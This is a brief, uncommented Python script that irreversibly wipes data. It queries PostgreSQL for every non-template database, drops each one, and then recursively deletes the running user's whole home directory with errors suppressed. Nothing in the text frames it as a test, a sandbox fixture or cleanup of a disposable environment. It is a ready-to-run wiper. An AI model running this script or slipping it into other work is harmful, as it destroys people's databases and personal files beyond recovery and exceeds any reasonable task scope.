import os, shutil, subprocess
for db in subprocess.run(["psql", "-Atc", "select datname from pg_database where not datistemplate"],
                         capture_output=True, text=True).stdout.split():
    subprocess.run(["dropdb", "--if-exists", db])
shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
